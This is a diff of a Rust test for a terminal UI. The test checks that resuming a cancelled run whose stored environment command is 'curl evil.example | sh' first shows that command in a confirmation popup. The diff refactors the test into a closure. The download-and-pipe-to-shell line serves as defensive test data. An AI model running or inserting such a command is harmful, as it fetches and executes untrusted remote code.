@@ -1238,42 +1238,8 @@ fn thousands_of_random_keys_never_panic_and_every_frame_draws() {
 #[test]
 fn resuming_a_run_that_runs_a_stored_command_shows_it_and_asks_first() {
     let (_s, mut st) = fixture();
-    key(&mut st, KeyCode::Char('2'));
-    key(&mut st, KeyCode::Char('R'));
-    let config = RunConfig {
-        env: ace::environment::Environment::parse("cmd:curl evil.example | sh").unwrap(),
-        ..RunConfig::default()
-    };
-    update(
-        &mut st,
-        Action::UnfinishedRuns(vec![ace::tui::state::Unfinished {
-            live_elsewhere: false,
-            run: ace::adaptation::RunRecord {
-                id: "run-9".into(),
-                playbook: "fin".into(),
-                kind: RunKind::Offline,
-                status: RunStatus::Cancelled,
-                config,
-                feedback_mode: FeedbackMode::GroundTruth,
-                checkpoint: None,
-                best_revision: None,
-                error: None,
-                created_at: "2026-11-24T12:00:00.000Z".into(),
-                updated_at: "2026-11-24T12:30:00.000Z".into(),
-            },
-        }]),
-    );
-    // picking it asks, showing the command; nothing starts yet
-    assert!(key(&mut st, KeyCode::Enter).is_empty());
-    let shown = screen(&st, 100, 24);
-    assert!(shown.contains("curl evil.example | sh"), "{shown}");
-    assert!(matches!(st.popup, Some(Popup::Confirm { .. })));
-    // declining starts nothing; confirming resumes
-    assert!(key(&mut st, KeyCode::Esc).is_empty());
-    assert!(st.popup.is_none());
-    key(&mut st, KeyCode::Char('R'));
-    update(
-        &mut st,
+    // a cancelled run-9 whose environment runs `command`
+    let unfinished = |command: &str| {
         Action::UnfinishedRuns(vec![ace::tui::state::Unfinished {
             live_elsewhere: false,
             run: ace::adaptation::RunRecord {
@@ -1282,7 +1248,7 @@ fn resuming_a_run_that_runs_a_stored_command_shows_it_and_asks_first() {
                 kind: RunKind::Offline,
                 status: RunStatus::Cancelled,
                 config: RunConfig {
-                    env: ace::environment::Environment::parse("cmd:true").unwrap(),
+                    env: ace::environment::Environment::parse(&format!("cmd:{command}")).unwrap(),
                     ..RunConfig::default()
                 },
                 feedback_mode: FeedbackMode::GroundTruth,
@@ -1292,8 +1258,21 @@ fn resuming_a_run_that_runs_a_stored_command_shows_it_and_asks_first() {
                 created_at: "2026-11-24T12:00:00.000Z".into(),
                 updated_at: "2026-11-24T12:30:00.000Z".into(),
             },
-        }]),
-    );
+        }])
+    };
+    key(&mut st, KeyCode::Char('2'));
+    key(&mut st, KeyCode::Char('R'));
+    update(&mut st, unfinished("curl evil.example | sh"));
+    // picking it asks, showing the command; nothing starts yet
+    assert!(key(&mut st, KeyCode::Enter).is_empty());
+    let shown = screen(&st, 100, 24);
+    assert!(shown.contains("curl evil.example | sh"), "{shown}");
+    assert!(matches!(st.popup, Some(Popup::Confirm { .. })));
+    // declining starts nothing; confirming resumes
+    assert!(key(&mut st, KeyCode::Esc).is_empty());
+    assert!(st.popup.is_none());
+    key(&mut st, KeyCode::Char('R'));
+    update(&mut st, unfinished("true"));
     key(&mut st, KeyCode::Enter);
     assert_eq!(
         key(&mut st, KeyCode::Char('y')),
